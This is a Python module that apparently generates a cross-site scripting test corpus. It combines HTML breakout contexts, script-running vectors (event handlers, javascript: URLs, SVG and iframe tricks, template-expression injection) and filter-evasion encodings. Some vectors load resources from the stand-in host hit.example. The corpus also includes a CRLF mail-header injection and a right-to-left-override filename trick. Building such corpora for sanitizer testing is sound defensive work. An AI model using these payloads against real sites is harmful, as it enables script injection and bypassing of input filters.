"""Texts that try to become a script: contexts to break out of × vectors that run × disguises.

Every vector sets `window.hit`, opens a dialog or loads from hit.example; markup carries the name
`hit`, so that one that came through is known by its element.
"""

import random
from html import escape
from itertools import product
from urllib.parse import quote

RUN = "window.hit=1"
# What a page puts around a text: how a payload tries to leave it, and to hide the rest.
CONTEXTS = {
    "words": "{}",
    "attribute in double quotes": '">{}',
    "attribute in single quotes": "'>{}",
    "attribute without quotes": " >{}",
    "new attribute in double quotes": '" hit {} x="',
    "title": "</title>{}",
    "text area": "</textarea>{}",
    "choice": "</option></select>{}",
    "script": "</script>{}",
    "style": "</style>{}",
    "comment": "-->{}<!--",
    "drawing": "</title></svg>{}",
    "template": "{{% endautoescape %}}{{{{ x|safe }}}}{}",
    "half a tag": "<hit <{}",
}
MARKUP = (
    "<script hit>{run}</script>",
    "<script hit src=https://hit.example/x.js></script>",
    "<img hit src=x onerror={run}>",
    "<svg hit/onload={run}>",
    "<svg hit><animate onbegin={run} attributeName=x dur=1s>",
    "<iframe hit srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe hit src=javascript:{run}></iframe>",
    "<details hit open ontoggle={run}>",
    "<input hit autofocus onfocus={run}>",
    "<object hit data=javascript:{run}></object>",
    "<embed hit src=javascript:{run}>",
    "<base hit href=https://hit.example/>",
    "<meta hit http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link hit rel=stylesheet href=https://hit.example/x.css>",
    "<style hit>@import 'https://hit.example/x.css'</style>",
    "<math hit><a xlink:href=javascript:{run}>x</a></math>",
    "<form hit action=javascript:{run}><button autofocus>x</button></form>",
    "<video hit><source onerror={run}></video>",
    "<a hit href=javascript:{run}>x</a>",
    "<template hit><s id=hit onclick={run}></template>",
)
# Vectors that need no angle bracket.
BARE = (
    "onfocus={run} autofocus tabindex=1",
    "javascript:{run}",
    "[x](javascript:{run})",
    "![x](https://hit.example/x.png)",
    "[x](data:text/html,<script>{run}</script>)",
    "<javascript:{run}>",
    "[x]: javascript:{run}\n[x]",
    'https://hit.example/"onmouseover={run}//',
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "x\r\nBcc: hit@example.org\r\n\r\n<script hit>{run}</script>",
    "\u202ecod.exe\u2066<script hit>{run}</script>",
)


def _capitals(text):
    """Elements and schemes in mixed case; the script itself must stay as it is."""
    for word in ("script", "img", "svg", "iframe", "onerror", "onload", "javascript"):
        text = text.replace(word, word[0].upper() + word[1:-1] + word[-1].upper())
    return text


DISGUISES = {
    "plain": lambda text: text,
    "capitals": _capitals,
    "entities": escape,
    "numbered entities": lambda text: "".join(f"&#{ord(sign)};" for sign in text),
    "percent": quote,
    "twice percent": lambda text: quote(quote(text)),
    "split scheme": lambda text: text.replace("javascript:", "java\tscr\nipt\x01:"),
    "control signs": lambda text: text.replace("<", "<\x0c").replace("=", "\x0b="),
    "slashes": lambda text: text.replace(" ", "/"),
    "full width": lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    "backslashes": lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
}


def all_payloads():
    """Every different combination, in the same order each time."""
    found = {}
    for vector, disguise in product((*MARKUP, *BARE), DISGUISES.values()):
        found[disguise(vector.format(run=RUN))] = None
    for context, vector in product(CONTEXTS.values(), (*MARKUP, *BARE[:2])):
        found[context.format(vector.format(run=RUN))] = None
    return sorted(found)


def some_payloads(count):
    """So many of them, chosen over the whole list."""
    payloads = all_payloads()
    random.Random(0).shuffle(payloads)
    return payloads[:count]
